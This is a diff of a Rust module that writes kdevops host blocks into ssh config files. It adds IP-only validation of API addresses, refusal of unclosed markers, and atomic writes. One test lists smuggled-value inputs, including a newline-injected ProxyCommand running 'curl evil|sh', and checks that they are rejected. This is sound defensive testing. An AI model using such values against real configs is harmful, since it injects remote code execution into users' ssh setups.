@@ -4,12 +4,20 @@
 //! kdevops' markers (`# BEGIN host configuration for <host>` … `# END …`, Ansible
 //! `blockinfile` style), and `~/.ssh/config` gets, at its top, a `# BEGIN Managed by
 //! kdevops` block with `Include ~/.ssh/config_kdevops_*`, so `ssh kdevops-0` works from
-//! anywhere. Text outside our markers is never touched.
+//! anywhere.
+//!
+//! `~/.ssh/config` is the user's: text outside our markers is kept byte for byte (line
+//! endings included), a BEGIN marker without its END makes us refuse rather than guess
+//! where our block ends, and every rewrite goes through [`atomic_write`]. Addresses are
+//! [`IpAddr`]s, never API text, so nothing the API says can add an ssh option.
 
 use std::fs;
+use std::net::IpAddr;
 use std::path::Path;
 
-use anyhow::{Context, Result};
+use anyhow::{anyhow, bail, Context, Result};
+
+use crate::atomic_write::{self, LineEnding};
 
 const INCLUDE_MARK: &str = "Managed by kdevops";
 
@@ -17,7 +25,28 @@ const INCLUDE_MARK: &str = "Managed by kdevops";
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct HostEntry {
     pub name: String,
-    pub ip: String,
+    pub ip: IpAddr,
+}
+
+impl HostEntry {
+    /// The node `name` at the address the API reported, which must be an IP literal:
+    /// anything else (a hostname, text with a newline and an ssh option) is refused
+    /// before it reaches the ssh config or the inventory.
+    pub fn from_api(name: &str, address: Option<&str>) -> Result<Self> {
+        let Some(address) = address.filter(|a| !a.is_empty()) else {
+            bail!("{name} has no IP address after apply");
+        };
+        let ip = address.parse::<IpAddr>().map_err(|_| {
+            anyhow!(
+                "node {name}: the API reported the address {address:?}, which is not an IP address; \
+                 not writing it into the ssh config or the inventory"
+            )
+        })?;
+        Ok(Self {
+            name: name.to_owned(),
+            ip,
+        })
+    }
 }
 
 /// How the host blocks are written.
@@ -40,6 +69,30 @@ fn end(mark: &str) -> String {
 
 fn host_mark(host: &str) -> String {
     format!("host configuration for {host}")
+}
+
+/// A BEGIN marker whose END never comes: where our block ends is unknown, so the lines
+/// after it may be the user's.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct UnclosedBlock {
+    /// 1-based line of the BEGIN marker.
+    pub line: usize,
+    pub mark: String,
+}
+
+impl UnclosedBlock {
+    /// The error to show, naming the file.
+    fn in_file(&self, path: &Path) -> anyhow::Error {
+        anyhow!(
+            "{} line {}: `{}` has no matching `{}` line, so where kdevops' block ends is unknown \
+             and the file is left untouched; add the END line after the block (or delete the \
+             BEGIN line), then run again",
+            path.display(),
+            self.line,
+            begin(&self.mark),
+            end(&self.mark)
+        )
+    }
 }
 
 /// The per-project file: one marked block per host, in the given order.
@@ -73,34 +126,62 @@ pub fn render_project_config(hosts: &[HostEntry], options: &HostOptions) -> Stri
     out
 }
 
-/// `text` with the block between `mark`'s markers removed (markers included).
-pub fn remove_block(text: &str, mark: &str) -> String {
+/// `text` with the block between `mark`'s markers removed (markers included); every
+/// other line kept exactly, its line ending included. A BEGIN with no END after it (or
+/// with a second BEGIN first) is an error: the block's extent is not provable.
+pub fn remove_block(text: &str, mark: &str) -> Result<String, UnclosedBlock> {
     let (b, e) = (begin(mark), end(mark));
     let mut out = String::with_capacity(text.len());
-    let mut inside = false;
-    for line in text.lines() {
-        if !inside && line.trim_end() == b {
-            inside = true;
-        } else if inside && line.trim_end() == e {
-            inside = false;
-        } else if !inside {
-            out.push_str(line);
-            out.push('\n');
+    let mut open_at: Option<usize> = None;
+    for (index, line) in text.split_inclusive('\n').enumerate() {
+        let bare = line.trim_end();
+        match open_at {
+            None if bare == b => open_at = Some(index + 1),
+            None => out.push_str(line),
+            Some(first) if bare == b => {
+                return Err(UnclosedBlock {
+                    line: first,
+                    mark: mark.to_owned(),
+                })
+            }
+            Some(_) if bare == e => open_at = None,
+            Some(_) => {}
         }
     }
-    out
+    match open_at {
+        Some(line) => Err(UnclosedBlock {
+            line,
+            mark: mark.to_owned(),
+        }),
+        None => Ok(out),
+    }
 }
 
-/// `text` with the Include block for `prefix*` at its top (replacing an older one):
-/// ssh applies the first value it finds, so included hosts must come before any
-/// catch-all `Host *` of the user's.
-pub fn with_include_block(text: &str, prefix: &str) -> String {
-    let rest = remove_block(text, INCLUDE_MARK);
-    format!(
-        "{}\nInclude {prefix}*\n{}\n{rest}",
+/// `text` with the Include block for `prefix*` at its top (replacing an older one), in
+/// the file's line endings: ssh applies the first value it finds, so included hosts
+/// must come before any catch-all `Host *` of the user's.
+pub fn with_include_block(text: &str, prefix: &str) -> Result<String, UnclosedBlock> {
+    let rest = remove_block(text, INCLUDE_MARK)?;
+    let nl = LineEnding::of(text).as_str();
+    Ok(format!(
+        "{}{nl}Include {prefix}*{nl}{}{nl}{rest}",
         begin(INCLUDE_MARK),
         end(INCLUDE_MARK)
-    )
+    ))
+}
+
+/// The main config's current text (empty when missing), refused when our block in it
+/// is broken.
+fn read_main(main: &Path) -> Result<String> {
+    let text = atomic_write::read(&atomic_write::follow_links(main)?)?.unwrap_or_default();
+    remove_block(&text, INCLUDE_MARK).map_err(|e| e.in_file(main))?;
+    Ok(text)
+}
+
+/// Fails, naming the file and line, when `main` holds a broken kdevops block: what
+/// [`install`] and [`uninstall`] would refuse, checked before anything is created.
+pub fn check_main(main: &Path) -> Result<()> {
+    read_main(main).map(drop)
 }
 
 /// Writes the per-project file and makes sure the main config includes it.
@@ -111,18 +192,21 @@ pub fn install(
     hosts: &[HostEntry],
     options: &HostOptions,
 ) -> Result<()> {
-    write_private(project_file, &render_project_config(hosts, options))?;
-    let current = read_or_empty(main)?;
-    let updated = with_include_block(&current, prefix);
+    let current = read_main(main)?;
+    let updated = with_include_block(&current, prefix).map_err(|e| e.in_file(main))?;
+    atomic_write::write_generated(project_file, &render_project_config(hosts, options))?;
     if updated != current {
-        write_private(main, &updated)?;
+        atomic_write::write(main, &updated)?;
     }
     Ok(())
 }
 
 /// Removes the per-project file, and the Include block when no other project's file
-/// (another file named `<prefix>*`) is left to include.
+/// (another file named `<prefix>*`) is left to include. A main config that held
+/// nothing but our block (we created it) is removed rather than left empty, unless it
+/// is a link (the user's dotfile setup).
 pub fn uninstall(main: &Path, project_file: &Path, prefix: &Path) -> Result<()> {
+    let current = read_main(main)?;
     match fs::remove_file(project_file) {
         Ok(()) => {}
         Err(e) if e.kind() == std::io::ErrorKind::NotFound => {}
@@ -143,14 +227,19 @@ pub fn uninstall(main: &Path, project_file: &Path, prefix: &Path) -> Result<()> 
         }
         _ => false,
     };
-    if !others_remain && main.exists() {
-        let current = read_or_empty(main)?;
-        let updated = remove_block(&current, INCLUDE_MARK);
-        if updated != current {
-            write_private(main, &updated)?;
-        }
+    if others_remain {
+        return Ok(());
     }
-    Ok(())
+    let updated = remove_block(&current, INCLUDE_MARK).map_err(|e| e.in_file(main))?;
+    if updated == current {
+        return Ok(());
+    }
+    let is_link = fs::symlink_metadata(main).is_ok_and(|m| m.file_type().is_symlink());
+    if updated.is_empty() && !is_link {
+        fs::remove_file(main).with_context(|| format!("cannot remove {}", main.display()))
+    } else {
+        atomic_write::write(main, &updated)
+    }
 }
 
 /// The Ansible inventory: an `[all]` group of node names with their address and user.
@@ -170,32 +259,6 @@ pub fn render_inventory(hosts: &[HostEntry], user: &str, identity_file: &str) ->
     out
 }
 
-fn read_or_empty(path: &Path) -> Result<String> {
-    match fs::read_to_string(path) {
-        Ok(s) => Ok(s),
-        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(String::new()),
-        Err(e) => Err(e).with_context(|| format!("cannot read {}", path.display())),
-    }
-}
-
-/// Writes a file readable by its owner only (ssh refuses group-writable configs).
-pub fn write_private(path: &Path, text: &str) -> Result<()> {
-    use std::os::unix::fs::{OpenOptionsExt, PermissionsExt};
-    if let Some(dir) = path.parent() {
-        fs::create_dir_all(dir).with_context(|| format!("cannot create {}", dir.display()))?;
-    }
-    let mut file = fs::OpenOptions::new()
-        .write(true)
-        .create(true)
-        .truncate(true)
-        .mode(0o600)
-        .open(path)
-        .with_context(|| format!("cannot write {}", path.display()))?;
-    file.set_permissions(fs::Permissions::from_mode(0o600))?;
-    std::io::Write::write_all(&mut file, text.as_bytes())
-        .with_context(|| format!("cannot write {}", path.display()))
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -204,11 +267,11 @@ mod tests {
         vec![
             HostEntry {
                 name: "kdevops-0".into(),
-                ip: "127.0.0.10".into(),
+                ip: "127.0.0.10".parse().unwrap(),
             },
             HostEntry {
                 name: "kdevops-1".into(),
-                ip: "127.0.0.11".into(),
+                ip: "127.0.0.11".parse().unwrap(),
             },
         ]
     }
@@ -237,11 +300,14 @@ mod tests {
     #[test]
     fn include_block_goes_first_once_and_leaves_user_text() {
         let user = "Host *\n\tServerAliveInterval 30\n";
-        let once = with_include_block(user, "~/.ssh/config_kdevops_");
+        let once = with_include_block(user, "~/.ssh/config_kdevops_").unwrap();
         assert!(once.starts_with("# BEGIN Managed by kdevops\nInclude ~/.ssh/config_kdevops_*\n# END Managed by kdevops\n"));
         assert!(once.ends_with(user));
-        assert_eq!(with_include_block(&once, "~/.ssh/config_kdevops_"), once);
-        assert_eq!(remove_block(&once, INCLUDE_MARK).trim_start(), user);
+        assert_eq!(
+            with_include_block(&once, "~/.ssh/config_kdevops_").unwrap(),
+            once
+        );
+        assert_eq!(remove_block(&once, INCLUDE_MARK).unwrap(), user);
     }
 
     #[test]
@@ -274,6 +340,131 @@ mod tests {
         fs::remove_file(&other).unwrap();
         uninstall(&main, &project, &dir.path().join("config_kdevops_")).unwrap();
         assert_eq!(fs::read_to_string(&main).unwrap(), "Host mine\n");
+    }
+
+    #[test]
+    fn a_begin_without_end_is_refused_and_the_file_left_alone() {
+        let dir = tempfile::tempdir().unwrap();
+        let main = dir.path().join("config");
+        // Our BEGIN, then the user's hosts: the END was deleted by hand.
+        let broken = "Host first\n# BEGIN Managed by kdevops\nInclude ~/.ssh/config_kdevops_*\n\
+                      Host work\n\tUser me\n";
+        fs::write(&main, broken).unwrap();
+        let project = dir.path().join("config_kdevops_abcd1234");
+        let prefix = dir.path().join("config_kdevops_");
+        for err in [
+            install(
+                &main,
+                &project,
+                "~/.ssh/config_kdevops_",
+                &hosts(),
+                &options(true),
+            ),
+            uninstall(&main, &project, &prefix),
+            check_main(&main),
+        ] {
+            let err = format!("{:#}", err.unwrap_err());
+            assert!(
+                err.contains(&format!("{} line 2:", main.display()))
+                    && err.contains("# END Managed by kdevops"),
+                "{err}"
+            );
+        }
+        assert_eq!(fs::read_to_string(&main).unwrap(), broken);
+        assert!(!project.exists(), "nothing written before the refusal");
+
+        // A second BEGIN before any END: the first one is the unclosed one.
+        let twice =
+            "# BEGIN Managed by kdevops\nx\n# BEGIN Managed by kdevops\n# END Managed by kdevops\n";
+        assert_eq!(remove_block(twice, INCLUDE_MARK).unwrap_err().line, 1);
+        // An END alone is the user's text.
+        assert_eq!(
+            remove_block("# END Managed by kdevops\n", INCLUDE_MARK).unwrap(),
+            "# END Managed by kdevops\n"
+        );
+    }
+
+    #[test]
+    fn crlf_and_a_missing_final_newline_are_kept() {
+        let user = "Host a\r\n\tUser me\r\nHost b";
+        let with = with_include_block(user, "~/.ssh/config_kdevops_").unwrap();
+        assert_eq!(
+            with,
+            format!("# BEGIN Managed by kdevops\r\nInclude ~/.ssh/config_kdevops_*\r\n# END Managed by kdevops\r\n{user}")
+        );
+        assert_eq!(remove_block(&with, INCLUDE_MARK).unwrap(), user);
+    }
+
+    #[test]
+    fn a_linked_main_config_is_edited_at_its_target() {
+        let dir = tempfile::tempdir().unwrap();
+        let dotfiles = dir.path().join("dotfiles/ssh_config");
+        fs::create_dir_all(dotfiles.parent().unwrap()).unwrap();
+        fs::write(&dotfiles, "Host mine\n").unwrap();
+        let main = dir.path().join("config");
+        std::os::unix::fs::symlink(&dotfiles, &main).unwrap();
+        let project = dir.path().join("config_kdevops_abcd1234");
+        let prefix = dir.path().join("config_kdevops_");
+        install(
+            &main,
+            &project,
+            "~/.ssh/config_kdevops_",
+            &hosts(),
+            &options(true),
+        )
+        .unwrap();
+        assert!(fs::symlink_metadata(&main)
+            .unwrap()
+            .file_type()
+            .is_symlink());
+        assert!(fs::read_to_string(&dotfiles).unwrap().contains("Include"));
+        uninstall(&main, &project, &prefix).unwrap();
+        assert!(fs::symlink_metadata(&main)
+            .unwrap()
+            .file_type()
+            .is_symlink());
+        assert_eq!(fs::read_to_string(&dotfiles).unwrap(), "Host mine\n");
+    }
+
+    #[test]
+    fn a_main_config_we_created_goes_with_our_block() {
+        let dir = tempfile::tempdir().unwrap();
+        let main = dir.path().join("config");
+        let project = dir.path().join("config_kdevops_abcd1234");
+        install(
+            &main,
+            &project,
+            "~/.ssh/config_kdevops_",
+            &hosts(),
+            &options(true),
+        )
+        .unwrap();
+        uninstall(&main, &project, &dir.path().join("config_kdevops_")).unwrap();
+        assert!(!main.exists(), "no empty ~/.ssh/config left behind");
+    }
+
+    #[test]
+    fn only_ip_literals_from_the_api_are_written() {
+        let ok = HostEntry::from_api("kdevops-0", Some("2001:db8::1")).unwrap();
+        assert_eq!(ok.ip.to_string(), "2001:db8::1");
+        for bad in [
+            "1.2.3.4\n  ProxyCommand sh -c 'curl evil|sh'",
+            "1.2.3.4 ProxyCommand x",
+            "evil.example.com",
+            " 1.2.3.4",
+        ] {
+            let err = HostEntry::from_api("kdevops-1", Some(bad))
+                .unwrap_err()
+                .to_string();
+            assert!(
+                err.contains("node kdevops-1") && err.contains(&format!("{bad:?}")),
+                "{err}"
+            );
+        }
+        let err = HostEntry::from_api("kdevops-2", None)
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("kdevops-2 has no IP address"), "{err}");
     }
 
     #[test]
